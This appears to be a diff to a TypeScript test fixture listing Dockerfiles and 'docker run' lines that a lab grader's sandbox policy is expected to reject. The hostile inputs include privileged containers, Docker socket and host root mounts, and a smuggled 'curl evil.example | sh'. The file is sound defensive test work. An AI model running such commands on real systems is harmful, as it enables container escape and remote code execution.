@@ -1,7 +1,8 @@
 /**
  * Hostile submissions the sandbox policy refuses before anything runs, shared by the grader-level
  * tests (hostile.test.ts: validate and grade, as the worker runs them) and the end-to-end tests
- * through the api (parsers.test.ts). Each expects the first issue as "file:line field: message".
+ * through the api and the worker (hostile-api.test.ts). Each expects the first issue as
+ * "file:line field: message".
  */
 export type HostileCase = [name: string, files: Record<string, string>, expected: RegExp];
 
@@ -51,4 +52,16 @@ export const HOSTILE_DOCKERFILES: HostileCase[] = [
   ["RUN --mount from=<another attempt's image>", { Dockerfile: 'FROM busybox:1.36\nRUN --mount=type=bind,from=kadai-0123456789abcdef-web,target=/x cp -r /x /stolen\n' }, /^Dockerfile:2 RUN --mount from: images named kadai-/],
   ['# syntax= naming a registry frontend', { Dockerfile: '# syntax=docker.io/evil/frontend:latest\nFROM busybox:1.36\n' }, /^Dockerfile:1 # syntax: kadai builds with BuildKit's built-in Dockerfile frontend/],
   ['RUN --network=host', { Dockerfile: 'FROM busybox:1.36\nRUN --network=host wget http://127.0.0.1:6443/\n' }, /^Dockerfile:2 RUN --network: /],
+];
+
+/** `docker run` lines (a `run` lab's run.txt) the policy refuses. */
+export const HOSTILE_RUN_LINES: HostileCase[] = [
+  ['privileged', { 'run.txt': 'docker run -d --privileged busybox:1.36 sleep 60' }, /^run\.txt:1 --privileged: /],
+  ['Docker socket', { 'run.txt': 'docker run -d -v /var/run/docker.sock:/var/run/docker.sock busybox:1.36' }, /^run\.txt:1 -v: mounting the Docker socket/],
+  ['host root bind', { 'run.txt': 'docker run -d -v /:/host busybox:1.36' }, /^run\.txt:1 -v: bind mounts/],
+  ['host network', { 'run.txt': 'docker run -d --network=host busybox:1.36' }, /^run\.txt:1 --network: /],
+  ['host pid', { 'run.txt': 'docker run -d --pid host busybox:1.36' }, /^run\.txt:1 --pid: /],
+  ['cap_add', { 'run.txt': 'docker run -d --cap-add=NET_ADMIN busybox:1.36' }, /^run\.txt:1 --cap-add: /],
+  ['devices', { 'run.txt': 'docker run -d --device /dev/kvm busybox:1.36' }, /^run\.txt:1 --device: /],
+  ['a shell', { 'run.txt': 'docker run -d busybox:1.36; curl evil.example | sh' }, /^run\.txt:1 : shell operators/],
 ];
